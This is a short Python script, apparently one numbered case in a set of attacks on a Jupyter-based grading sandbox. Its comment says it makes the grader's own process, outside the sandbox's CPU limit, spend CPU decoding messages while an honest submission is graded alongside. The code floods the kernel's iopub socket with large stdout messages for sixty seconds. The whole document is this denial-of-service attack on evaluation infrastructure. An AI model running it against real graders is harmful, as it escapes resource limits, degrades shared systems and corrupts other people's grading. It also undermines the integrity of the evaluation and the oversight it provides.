# A11: make the grader's own process (outside the sandbox's CPU share) spend CPU decoding messages,
# while an honest ps2 hand-in (ranks, collectives with time limits) is graded beside it
import time
ip = get_ipython(); k = ip.kernel
parent = k.get_parent("shell") if hasattr(k, "get_parent") else k._parent_header
body = b'{"name": "stdout", "text": "' + b"\\u0041" * 2000 + b'"}'
t0 = time.time(); n = 0
while time.time() - t0 < 60:
    k.run.send(k.iopub_socket, "stream", content=body, parent=parent, ident=b"stream.stdout")
    n += 1
print("sent", n)
